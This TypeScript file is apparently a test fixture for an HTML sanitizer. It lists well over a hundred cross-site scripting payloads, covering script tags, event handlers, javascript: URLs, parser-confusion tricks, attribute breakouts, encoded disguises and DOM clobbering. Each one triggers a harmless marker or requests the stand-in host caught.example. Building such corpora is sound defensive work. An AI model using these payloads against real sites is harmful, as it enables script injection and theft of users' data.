/** Where what a payload asks for would come from: nothing may ever ask there. */
export const foreignHost = 'caught.example';

// In what follows § calls the mark that a running payload leaves, and ¤ is an address of another site.
const scripts = [
  '<script>§</script>',
  '<ScRiPt>§</sCrIpT >',
  '<script/x>§</script>',
  '<script\n>§</script\n>',
  '<script src=¤/s.js></script>',
  '<script type=module>§</script>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<<script>§//<</script>',
  '<svg><script>§</script></svg>',
  '<svg><script href="data:text/javascript,§"/></svg>',
  '<svg><script xlink:href=¤/x.js></script></svg>',
  '<math><script>§</script></math>',
  '<ſcript>§</ſcript>',
];

const handlers = [
  '<img src=x onerror=§>',
  '<IMG SRC=x OnErRoR="§">',
  '<img/src=x/onerror=§>',
  "<img src=1 onerror = '§'",
  '<img src=x onerror&#61;§>',
  '<img\u00a0src=x onerror=§>',
  '<svg onload=§>',
  '<svg/onload=§//',
  '<body onload=§>',
  '<body onpageshow=§>',
  '<iframe onload=§></iframe>',
  '<details open ontoggle=§>x</details>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§></select>',
  '<textarea autofocus onfocus=§>',
  '<button autofocus onfocus=§>x</button>',
  '<a href=# tabindex=1 autofocus onfocusin=§>x</a>',
  '<xss contenteditable autofocus onfocus=§>x</xss>',
  '<video><source onerror=§></video>',
  '<audio src=x onerror=§></audio>',
  '<picture><source srcset=x><img onerror=§ src=x></picture>',
  '<marquee onstart=§>x</marquee>',
  '<style onload=§></style>',
  '<link rel=stylesheet href=data:text/css, onload=§>',
  '<object data=x onerror=§></object>',
  '<embed src=x onerror=§>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=§>x</p>',
  '<p oncontentvisibilityautostatechange=§ style=content-visibility:auto>x</p>',
  '<svg><animate onbegin=§ attributeName=x dur=1s></svg>',
  '<p onmouseover=§ style="position:fixed;inset:0;z-index:9999">x</p>',
];

const addresses = [
  'javascript:§',
  '<a href=javascript:§>x</a>',
  '<a href="JaVaScRiPt:§">x</a>',
  '<a href="&#106;avascript&colon;§">x</a>',
  '<a href="java&#9;script:§">x</a>',
  '<a href="java\nscript:§">x</a>',
  '<a href="\tjavascript:§">x</a>',
  '<a href="&#1;javascript:§">x</a>',
  '<a href="vbscript:§">x</a>',
  '<a href="data:text/html,<script>§</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href=# ping=¤/ping target=_blank>x</a>',
  '<svg><a xlink:href="javascript:§"><text>x</text></a></svg>',
  '<math href="javascript:§">x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>',
  '<svg><animate xlink:href=#l attributeName=href values=javascript:§ /><a id=l><text>x</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:§ /><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=u><image href=1 onerror=§ /></svg>#u"/></svg>',
  '<form action=javascript:§><button>x</button></form>',
  '<form><button formaction=javascript:§>x</button></form>',
  '<map name=m><area href=javascript:§></map><img usemap=#m src=x>',
];

const frames = [
  '<iframe src=javascript:parent.§></iframe>',
  '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.§</script>"></object>',
  '<object data=javascript:§></object>',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>\">",
  '<embed src=¤/e>',
  '<frameset onload=§><frame src=javascript:§></frameset>',
];

const wholeDocument = [
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<meta http-equiv=refresh content="0;url=¤/r">',
  '<base href=¤/ target=_blank>',
  '<link rel=stylesheet href=¤/l.css>',
  '<link rel=prefetch href=¤/p>',
  '<form action=¤/f id=stolen></form><button form=stolen autofocus>x</button>',
  '<input type=image src=¤/i>',
  '<img srcset="¤/a 1x">',
  '<video poster=¤/v autoplay></video>',
];

const styles = [
  "<style>@import '¤/i.css';</style>",
  '<style>*{background:url(¤/b)}</style>',
  '<p style="background:url(¤/u)">x</p>',
  '<p style="width:expression(§);behavior:url(¤/h);-moz-binding:url(¤/m)">x</p>',
  '<svg><style>*{background:url(¤/s)}</style></svg>',
];

const confusions = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">',
  '<svg><title><style><img src=x onerror=§></style></title></svg>',
  '<svg><desc><img src=x onerror=§></desc></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>parent.§</script>'></iframe></foreignObject></svg>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<noscript><style></noscript><img src=x onerror=§>',
  '<xmp><p title="</xmp><img src=x onerror=§>">',
  '<noembed><img title="</noembed><img src onerror=§>"></noembed>',
  '<template><script>§</script></template>',
  '<template shadowrootmode=open><img src=x onerror=§></template>',
  '<select><template><img src=x onerror=§></template></select>',
  '<plaintext><img src=x onerror=§>',
  '<!--><img src=x onerror=§>-->',
  '<!-- --!><img src=x onerror=§> -->',
  '<![CDATA[<img src=x onerror=§>]]>',
  ']]><script>§</script>',
  '<?xml-stylesheet href="javascript:§"?><img src=x onerror=§>',
  '<!DOCTYPE x [<!ENTITY y "<script>§</script>">]>&y;',
];

const breakouts = [
  '"><img src=x onerror=§>',
  "'><img src=x onerror=§>",
  '" autofocus onfocus=§ onmouseover=§ x="',
  "' autofocus onfocus=§ onmouseover=§ x='",
  '` onerror=§ x=`',
  '</title><script>§</script>',
  '</textarea><script>§</script>',
  '</style><script>§</script>',
  '--><script>§</script><!--',
  '</script><script>§</script>',
  '</script><!--<script>',
  '\\"></script><script>§</script>',
  '";§;//',
  "';§;//",
  '"]);§;([["',
  '${§}`+${§}+`',
  "{{constructor.constructor('§')()}}",
  'x\u2028§//',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+§//'>",
];

const disguises = [
  '&lt;script&gt;§&lt;/script&gt;',
  '&#60;img src=x onerror=§&#62;',
  '&amp;lt;img src=x onerror=§&amp;gt;',
  '%3Cimg src=x onerror=§%3E',
  '\\u003cimg src=x onerror=§\\u003e',
  '\uFF1Cimg src=x onerror=§\uFF1E',
  '\uFE64img src=x onerror=§\uFE65',
  '+ADw-script+AD4-§+ADw-/script+AD4-',
];

/** Names that a page's own scripts go by, and the marks of frameworks that turn markup into action. */
const hijackings = [
  '<form name=body><input name=firstChild></form>',
  '<img name=getElementById><img name=currentUser>',
  '<a id=__reactRouterContext><a id=__reactRouterContext name=streamController href=¤/c>x</a>',
  '<div id=full-text><img src=x onerror=§></div>',
  '<template id="B:0"></template><div hidden id="S:0"><img src=x onerror=§></div><script>$RC("B:0","S:0")</script>',
  '<turbo-stream action=append targets=main><template><script>§</script></template></turbo-stream>',
  '<p hx-get=¤/hx hx-trigger=load hx-on:load="§" x-init="§" ng-init="§">x</p>',
];

/** Markup that tries to run something, to ask another site for something, or to take the page over; each is told by its place. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...wholeDocument,
  ...styles,
  ...confusions,
  ...breakouts,
  ...disguises,
  ...hijackings,
].map((text, place) => text.replaceAll('§', `__ran(${place})`).replaceAll('¤', `//${foreignHost}/${place}`));

/** Those that a field of one line takes. */
export const payloadsOnOneLine = payloads.filter((text) => !/[\p{Cc}\u2028]/u.test(text));

/** Those that a field of several lines takes. */
export const payloadsInProse = payloads.filter((text) => !text.includes('\u2028'));

/** Addresses that are to lead nowhere, however they are written. */
export const hostileAddresses: readonly string[] = [
  'javascript:__ran(1000)',
  'JAVASCRIPT:__ran(1001)',
  ' javascript:__ran(1002)',
  'java\tscript:__ran(1003)',
  'java\nscript:__ran(1004)',
  'javascript://%0a__ran(1005)',
  'javascript://example.org/%0d%0a__ran(1006)',
  'vbscript:__ran(1007)',
  'data:text/html,<script>parent.__ran(1008)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__ran(1009)"/>',
  'blob:https://caught.example/1010',
  'https:javascript:__ran(1011)',
  '//caught.example/1012',
  'https://example.org/" onmouseover="__ran(1013)" autofocus onfocus="__ran(1013)',
  "https://example.org/'><img src=x onerror=__ran(1014)>",
  'doi:10.1234/"onfocus="__ran(1015)"autofocus="',
  'https://doi.org/10.1234/x%22%3E%3Cimg%20src=x%20onerror=__ran(1016)%3E',
];

/** The payloads in as few lines as fit into `room` characters each; nothing is cut. */
export function packed(texts: readonly string[], room: number): string[] {
  const lines: string[] = [];
  for (const text of texts) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= room) lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}
